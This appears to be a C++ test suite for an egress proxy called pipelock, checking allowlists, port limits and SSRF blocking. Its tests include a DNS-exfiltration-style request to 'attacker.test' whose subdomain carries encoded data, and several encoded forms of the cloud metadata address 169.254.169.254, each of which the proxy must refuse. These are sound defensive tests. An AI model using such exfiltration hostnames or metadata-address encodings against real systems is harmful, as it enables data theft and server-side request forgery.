#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "pipelock_harness.hpp"

using namespace pipelock_test;

namespace {

// A strict pipelock whose test names resolve (dns.host_overrides) to loopback,
// where the upstream listens; loopback itself is exempt from SSRF only when
// `ssrf_allow` says so.
std::string config(int upstream_port, const std::string& ssrf_allow = "127.0.0.1/32",
                   const std::string& extra = "") {
  std::string yaml =
      "version: 1\n"
      "mode: strict\n"
      "api_allowlist: [allowed.test, '*.wild.test', private.test, 169.254.169.254]\n"
      "fetch_proxy: {listen: '127.0.0.1:0'}\n"
      "forward_proxy: {enabled: true, allowed_ports: [80, 443, " +
      std::to_string(upstream_port) +
      "]}\n"
      "dns:\n  host_overrides:\n"
      "    allowed.test: [127.0.0.1]\n    a.wild.test: [127.0.0.1]\n    private.test: "
      "[127.0.0.1]\n";
  if (!ssrf_allow.empty()) yaml += "ssrf: {ip_allowlist: [" + ssrf_allow + "]}\n";
  return yaml + extra;
}

std::string proxy(const Pipelock& p) { return "http://127.0.0.1:" + std::to_string(p.port()); }

nlohmann::json decision(Pipelock& p) {
  auto line = p.next_decision();
  EXPECT_TRUE(line) << "no decision line";
  return line ? nlohmann::json::parse(*line) : nlohmann::json{};
}

}  // namespace

TEST(PipelockProxy, AnAllowedHostPassesForPlainHttpAndConnect) {
  Upstream up;
  Pipelock p(config(up.port()));
  const std::string url = "http://allowed.test:" + std::to_string(up.port()) + "/index.html";
  auto [plain_code, plain] = run({"curl", "-sS", "-x", proxy(p), url});
  EXPECT_EQ(plain_code, 0) << plain;
  EXPECT_EQ(plain, "hello-upstream\n");
  auto d = decision(p);
  EXPECT_EQ(d["decision"], "allow");
  EXPECT_EQ(d["method"], "GET");
  EXPECT_EQ(d["host"], "allowed.test");
  EXPECT_GT(d["bytes_to_client"].get<int>(), 15);
  EXPECT_TRUE(d.contains("client") && d.contains("duration_ms") && d.contains("time"));

  auto [tunnel_code, tunnelled] =
      run({"curl", "-sS", "--proxytunnel", "-x", proxy(p),
           "http://a.wild.test:" + std::to_string(up.port()) + "/index.html"});
  EXPECT_EQ(tunnel_code, 0) << tunnelled;
  EXPECT_EQ(tunnelled, "hello-upstream\n");
  auto t = decision(p);
  EXPECT_EQ(t["method"], "CONNECT");
  EXPECT_EQ(t["decision"], "allow");
  EXPECT_GT(t["bytes_to_upstream"].get<int>(), 0);
}

TEST(PipelockProxy, AHostNotListedGets403NamingTheHostAndTheReason) {
  Upstream up;
  Pipelock p(config(up.port()));
  const std::string reply =
      exchange(p.port(), "CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n\r\n");
  EXPECT_EQ(reply.rfind("HTTP/1.1 403 Forbidden\r\n", 0), 0u) << reply;
  EXPECT_NE(reply.find("X-Pipelock-Block-Reason: domain not in allowlist: denied.test\r\n"),
            std::string::npos);
  EXPECT_NE(reply.find("\r\n\r\nCONNECT blocked: domain not in allowlist: denied.test\n"),
            std::string::npos);
  auto d = decision(p);
  EXPECT_EQ(d["decision"], "block");
  EXPECT_EQ(d["reason"], "domain not in allowlist: denied.test");

  auto [code, out] = run({"curl", "-s", "-i", "-x", proxy(p), "http://denied.test/x"});
  EXPECT_NE(out.find("403 Forbidden"), std::string::npos) << out;
  EXPECT_NE(out.find("blocked: domain not in allowlist: denied.test"), std::string::npos);
  // Ports: only those configured.
  EXPECT_NE(
      exchange(p.port(), "CONNECT allowed.test:25 HTTP/1.1\r\n\r\n").find("port not allowed: 25"),
      std::string::npos);
}

TEST(PipelockProxy, AHostNameCarryingDataIsRefusedBeforeItIsLookedUp) {
  // balanced mode, no allowlist: the name would be looked up (and the lookup
  // itself would carry the data to attacker.test's DNS) if it were not
  // refused first; nothing resolves it here, so a lookup would answer 502.
  Pipelock p(
      "mode: balanced\n"
      "fetch_proxy: {listen: '127.0.0.1:0'}\n"
      "forward_proxy: {enabled: true}\n");
  const std::string chunk = "mzxw6ytboi2gk3tfnzsxg5lsmnzgk5dtmv2gk3tunf2gk3dp";
  for (const std::string& request : {"CONNECT " + chunk + ".attacker.test:443 HTTP/1.1\r\n\r\n",
                                     "GET http://" + chunk + ".attacker.test/ HTTP/1.1\r\nHost: " +
                                         chunk + ".attacker.test\r\n\r\n"}) {
    const std::string reply = exchange(p.port(), request);
    EXPECT_EQ(reply.rfind("HTTP/1.1 403 Forbidden\r\n", 0), 0u) << reply;
    EXPECT_NE(reply.find("X-Pipelock-Block-Reason: subdomain entropy: label 1 (48 characters) "
                         "below attacker.test has "),
              std::string::npos)
        << reply;
    EXPECT_EQ(reply.find(chunk), std::string::npos) << "the answer quotes the data";
    auto d = decision(p);
    EXPECT_EQ(d["decision"], "block");
    EXPECT_EQ(d["host"], "<48 chars>.attacker.test") << "the log keeps the data";
  }
  // An ordinary name goes on to the lookup.
  const std::string reply =
      exchange(p.port(), "CONNECT d3kbcqa49mib13.attacker.test:443 HTTP/1.1\r\n\r\n");
  EXPECT_EQ(reply.find("subdomain entropy"), std::string::npos) << reply;
}

TEST(PipelockProxy, InAuditModeAHostNameCarryingDataIsLoggedNotRefused) {
  Pipelock p(
      "mode: audit\n"
      "fetch_proxy: {listen: '127.0.0.1:0'}\n"
      "forward_proxy: {enabled: true}\n");
  const std::string reply =
      exchange(p.port(), "CONNECT kx7qm2pl.9vrt4swz.8ynbq3ab.attacker.test:443 HTTP/1.1\r\n\r\n");
  EXPECT_EQ(reply.find("403"), std::string::npos) << reply;
  auto d = decision(p);
  EXPECT_EQ(d["host"], "<8 chars>.<8 chars>.<8 chars>.attacker.test");
  EXPECT_NE(d.dump().find("audit: would block: subdomain entropy"), std::string::npos) << d.dump();
}

TEST(PipelockProxy, ANameResolvingToAPrivateAddressIsRefusedUnlessItsSubnetIsAllowlisted) {
  Upstream up;
  const std::string url = "http://private.test:" + std::to_string(up.port()) + "/index.html";
  {
    Pipelock strict(config(up.port(), ""));
    auto [code, out] = run({"curl", "-s", "-i", "-x", proxy(strict), url});
    EXPECT_NE(out.find("403"), std::string::npos) << out;
    EXPECT_NE(out.find("SSRF: private.test resolves to internal address 127.0.0.1 (127.0.0.0/8)"),
              std::string::npos)
        << out;
  }
  {
    Pipelock exempt(config(up.port(), "127.0.0.0/8"));
    auto [code, out] = run({"curl", "-sS", "-x", proxy(exempt), url});
    EXPECT_EQ(out, "hello-upstream\n");
  }
}

TEST(PipelockProxy, TheMetadataAddressIsRefusedInEveryForm) {
  // balanced mode: no allowlist, so only the SSRF check stands in the way.
  Pipelock p(
      "mode: balanced\n"
      "fetch_proxy: {listen: '127.0.0.1:0'}\n"
      "forward_proxy: {enabled: true}\n"
      "dns:\n  host_overrides:\n"
      "    metadata.test: [169.254.169.254]\n"
      "    mapped.test: ['::ffff:169.254.169.254']\n");
  for (const char* target : {"169.254.169.254:80", "[::ffff:169.254.169.254]:80",
                             "metadata.test:80", "mapped.test:80", "[::ffff:a9fe:a9fe]:80"}) {
    const std::string reply =
        exchange(p.port(), std::string("CONNECT ") + target + " HTTP/1.1\r\n\r\n");
    EXPECT_EQ(reply.rfind("HTTP/1.1 403", 0), 0u) << target << ": " << reply;
    EXPECT_NE(reply.find("internal address"), std::string::npos) << target << ": " << reply;
    EXPECT_NE(reply.find("169.254.0.0/16"), std::string::npos) << target << ": " << reply;
  }
}

TEST(PipelockProxy, GitLsRemoteWorksThroughItAndIsRefusedForOtherHosts) {
  Upstream up;
  Pipelock p(config(up.port()));
  auto [code, out] = run({"git", "-c", "http.proxy=" + proxy(p), "ls-remote",
                          "http://allowed.test:" + std::to_string(up.port()) + "/repo.git"});
  EXPECT_EQ(code, 0) << out;
  EXPECT_NE(out.find("\trefs/heads/main"), std::string::npos) << out;
  auto [denied_code, denied] =
      run({"git", "-c", "http.proxy=" + proxy(p), "ls-remote",
           "http://denied.test:" + std::to_string(up.port()) + "/repo.git"});
  EXPECT_NE(denied_code, 0);
  EXPECT_NE(denied.find("403"), std::string::npos) << denied;
}

TEST(PipelockProxy, AForwardProxyThatIsNotEnabledAnswers405) {
  Upstream up;
  std::string yaml = config(up.port());
  yaml.replace(yaml.find("enabled: true"), 13, "enabled: false");
  Pipelock p(yaml);
  EXPECT_EQ(
      exchange(p.port(), "CONNECT allowed.test:443 HTTP/1.1\r\n\r\n").rfind("HTTP/1.1 405", 0), 0u);
}

// The same, through the system resolver rather than dns.host_overrides:
// "localhost" comes from /etc/hosts, as a rebinding name would come from DNS.
TEST(PipelockProxy, NamesFromTheSystemResolverAreCheckedTheSameWay) {
  Upstream up;
  const std::string base =
      "mode: strict\napi_allowlist: [localhost]\n"
      "fetch_proxy: {listen: '127.0.0.1:0'}\n"
      "forward_proxy: {enabled: true, allowed_ports: [" +
      std::to_string(up.port()) + "]}\n";
  const std::string url = "http://localhost:" + std::to_string(up.port()) + "/index.html";
  {
    Pipelock p(base);
    auto [code, out] = run({"curl", "-s", "-x", proxy(p), url});
    EXPECT_NE(out.find("SSRF: localhost resolves to internal address"), std::string::npos) << out;
  }
  {
    // Every address the name has must be exempt (it may be ::1 as well as 127.0.0.1).
    Pipelock p(base + "ssrf: {ip_allowlist: [127.0.0.0/8, '::1/128']}\n");
    auto [code, out] = run({"curl", "-sS", "-x", proxy(p), url});
    EXPECT_EQ(out, "hello-upstream\n");
  }
}
